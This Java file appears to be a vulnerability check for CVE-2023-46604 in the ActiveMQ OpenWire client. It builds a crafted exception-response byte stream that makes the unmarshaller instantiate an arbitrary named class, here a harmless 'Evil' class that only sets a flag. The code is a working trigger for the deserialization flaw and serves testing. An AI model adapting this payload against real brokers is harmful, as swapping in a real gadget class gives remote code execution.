import java.io.*;

public class D_activemq_client_2023_46604 {
    public static class Evil {
        static boolean ran;

        public Evil(String s) {
            ran = true;
        }
    }

    public static String run() throws Throwable {
        Evil.ran = false;
        Thread.currentThread().setContextClassLoader(H.class.getClassLoader());
        Object r = H.tr(() -> {
            var w = new org.apache.activemq.openwire.OpenWireFormat(12);
            w.setTightEncodingEnabled(false);
            w.setSizePrefixDisabled(true);
            w.setCacheEnabled(false);
            var b = new ByteArrayOutputStream();
            var o = new DataOutputStream(b);
            o.writeByte(31);
            o.writeInt(1);
            o.writeBoolean(false);
            o.writeInt(1);
            o.writeBoolean(true);
            o.writeBoolean(true);
            o.writeUTF("D_activemq_client_2023_46604$Evil");
            o.writeBoolean(true);
            o.writeUTF("m");
            return w.unmarshal(new DataInputStream(new ByteArrayInputStream(b.toByteArray())));
        });
        return H.v(Evil.ran, H.cause(r));
    }
}
